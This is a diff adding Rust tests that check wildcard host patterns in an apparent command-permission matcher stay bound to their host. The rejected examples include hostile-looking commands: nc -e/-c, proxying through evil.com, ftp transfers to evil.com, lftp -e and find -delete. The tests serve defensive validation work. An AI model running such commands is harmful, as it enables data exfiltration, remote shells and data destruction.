@@ -143,3 +143,62 @@ fn a_star_in_the_host_behind_a_subcommand_stays_in_it() {
         ("terraform login *.acme.com", &["terraform login a.b.acme.com"], &[]),
     ]);
 }
+
+#[test]
+fn a_star_in_the_host_of_a_connection_stays_in_it() {
+    keeps_to_host(&[
+        ("ftp -p web-*", "web-1"),
+        ("ftp web-*", "web-1"),
+        ("lftp -e ls web-*", "web-1"),
+        ("lftp -p 22 web-*", "web-1"),
+        ("lftp sftp://web-*/x", "web-1"),
+        ("lftp web-*", "web-1"),
+        ("mosh -- web-*", "web-1"),
+        ("mosh -p 60001 web-* -- uptime", "web-1"),
+        ("mosh web-*", "web-1"),
+        ("mosh web-* -- uptime", "web-1"),
+        ("nc -w 3 web-* 80", "web-1"),
+        ("nc -x web-*:80 acme.com 80", "web-1"),
+        ("nc -zv web-* 80", "web-1"),
+        ("nc web-*", "web-1"),
+        ("nc web-* 80", "web-1"),
+        ("ncat --proxy web-*:80 acme.com 80", "web-1"),
+        ("ncat web-* 80", "web-1"),
+        ("netcat web-* 80", "web-1"),
+        ("sudo telnet web-*", "web-1"),
+        ("telnet -4 web-* 80", "web-1"),
+        ("telnet -l bot web-*", "web-1"),
+        ("telnet web-*", "web-1"),
+        ("telnet web-* 80", "web-1"),
+    ]);
+    families(&[
+        (
+            "ftp web-*",
+            &["ftp web-1"],
+            &["ftp web-1:/x evil.com:/y", "ftp web-1 -u ftp://evil.com/ todo.txt", "ftp -o x web-1"],
+        ),
+        ("lftp *.acme.com", &["lftp a.b.acme.com"], &[]),
+        ("lftp web-*", &["lftp web-1 -p 22"], &["lftp web-1 evil.com", "lftp web-1 -e id", "lftp web-1 -c id"]),
+        ("lftp web-1 *", &[], &["lftp web-1 -f x", "lftp web-1 -e id", "lftp web-1 --norc"]),
+        (
+            "mosh web-1 *",
+            &["mosh web-1 uptime", "mosh web-1 -- ls -l"],
+            &["mosh web-1 --ssh=id", "mosh web-1 --client=x"],
+        ),
+        ("mosh web-1 -- find . *", &["mosh web-1 -- find . -name x"], &["mosh web-1 -- find . -delete"]),
+        ("nc web-* 80", &["nc web-1 80"], &["nc web-1 evil.com 80", "nc web-1 -x evil.com 80", "nc -l web-1 80"]),
+        (
+            "nc web-1 80 *",
+            &["nc web-1 80 81", "nc web-1 80 -v", "nc web-1 80 -w 3"],
+            &[
+                "nc web-1 80 -e id",
+                "nc web-1 80 -x evil.com:80",
+                "nc web-1 80 --proxy evil.com:80",
+                "nc web-1 80 -c id",
+            ],
+        ),
+        ("telnet *", &["telnet a.b.com 80", "telnet -l bot a.b.com"], &[]),
+        ("telnet 10.0.0.* 80", &["telnet 10.0.0.7 80"], &["telnet 10.0.0.evil.com 80"]),
+        ("telnet web-1 *", &["telnet web-1 80"], &["telnet web-1 -n trace"]),
+    ]);
+}
